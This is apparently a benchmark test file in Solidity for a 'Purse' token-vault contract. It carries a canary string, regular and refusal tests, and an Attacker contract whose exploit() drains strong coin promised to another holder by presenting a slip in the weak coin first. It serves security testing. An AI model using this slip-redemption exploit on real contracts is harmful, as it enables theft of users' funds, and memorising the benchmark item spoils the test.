// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-ea06bdd3-291c-4a47-8426-fd3baec4413d

import "./Purse.sol";

interface Vm {
    function prank(address who) external;
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ICoinage {
    address private minter = msg.sender;
    uint8 public immutable decimals;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor(uint8 decimals_) {
        decimals = decimals_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Holder {
    Purse internal purse;

    constructor(Purse purse_) {
        purse = purse_;
    }

    function putIn(Coin coin, uint256 amount) external {
        coin.approve(address(purse), amount);
        purse.putIn(coin, amount);
    }

    function write(uint256 units, Coin coin) public returns (uint256) {
        return purse.write(units, coin);
    }

    function change(uint256 id, Coin coin) external {
        purse.change(id, coin);
    }

    function tear(uint256 id) external {
        purse.tear(id);
    }
}

/// A holder of units who would rather have the strong coin, all of which is promised to somebody else.
contract Attacker is Holder {
    constructor(Purse purse_) Holder(purse_) {}

    function push(uint256 id, Coin weak, Coin strong) external {
        purse.present(id, weak);
        write(purse.free(strong), strong);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    Coin public strong;
    Coin public weak;
    Purse public purse;
    Holder public early;
    Attacker public late;
    uint256 public slip;

    function setUp() public {
        vm.warp(START);
        strong = new Coin(6);
        weak = new Coin(18);
        ICoinage[] memory coins = new ICoinage[](2);
        (coins[0], coins[1]) = (strong, weak);
        purse = new Purse(coins);
        early = new Holder(purse);
        late = new Attacker(purse);
        strong.mint(address(early), 100_000e6);
        weak.mint(address(late), 250_000e18);
        early.putIn(strong, 100_000e6);
        late.putIn(weak, 250_000e18);

        // The weak coin slips from its price; the early holder leaves in the strong one.
        slip = early.write(100_000e18, strong);
        vm.warp(START + 3 days);
    }

    /// What the early holder has of the strong coin, or is still promised.
    function strongOfEarly() public view returns (uint256) {
        (address holder, ICoinage coin, uint256 units,) = purse.slipInfo(slip);
        uint256 due = holder == address(early) && address(coin) == address(strong) ? units / 1e12 : 0;
        return strong.balanceOf(address(early)) + due;
    }

    function test_Regular() public {
        require(purse.free(strong) == 0 && purse.free(weak) == 250_000e18, "free coins");
        try late.write(1e18, strong) {
            revert("promised twice");
        } catch {}
        try purse.present(slip, ICoinage(address(this))) {
            revert("paid in a coin that is none");
        } catch {}
        purse.present(slip, strong);
        require(strong.balanceOf(address(early)) == 100_000e6, "paid in full");
        try purse.present(slip, strong) {
            revert("paid twice");
        } catch {}

        uint256 id = late.write(50_000e18, weak);
        try purse.present(id, weak) {
            revert("not ripe");
        } catch {}
        try early.tear(id) {
            revert("torn by a stranger");
        } catch {}
        try late.change(id, strong) {
            revert("strong coin is gone");
        } catch {}
        late.tear(id);
        require(purse.unitsOf(address(late)) == 250_000e18, "units are back");

        early.putIn(strong, 30_000e6);
        id = late.write(20_000e18, weak);
        late.change(id, strong);
        require(purse.free(strong) == 10_000e18 && purse.free(weak) == 250_000e18, "promise moved");
        vm.warp(START + 6 days);
        purse.present(id, strong);
        require(strong.balanceOf(address(late)) == 20_000e6, "paid in the changed coin");
        require(purse.totalUnits() == 260_000e18 && purse.slipCount() == 3, "books");

        uint256 units = purse.unitsOf(address(late));
        vm.prank(address(late));
        purse.move(address(early), 1e18);
        require(purse.unitsOf(address(late)) == units - 1e18, "moved");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Slips are their holders', of enough units, and paid in coins of the purse.
    function test_RefusesSlips() public {
        refuses(address(late), Purse.TooFew.selector);
        purse.write(1, weak);
        refuses(address(late), Purse.NotHolder.selector);
        purse.change(slip, weak);
        refuses(address(late), Purse.NotHolder.selector);
        purse.change(99, weak);
        refuses(address(late), Purse.NotHolder.selector);
        purse.tear(99);
        vm.expectRevert(abi.encodeWithSelector(Purse.NoSlip.selector, 99));
        purse.present(99, strong);
        vm.expectRevert(abi.encodeWithSelector(Purse.OtherCoin.selector, address(this)));
        purse.present(slip, ICoinage(address(this)));
    }

    function exploit() public {
        late.push(slip, weak, strong);
    }

    function test_Exploit() public {
        uint256 before = strongOfEarly();
        exploit();
        require(strongOfEarly() + 100_000e6 <= before, "early holder has its strong coin");
    }

    function target() public view returns (address) {
        return address(purse);
    }

    function attacker() public view returns (address) {
        return address(late);
    }
}
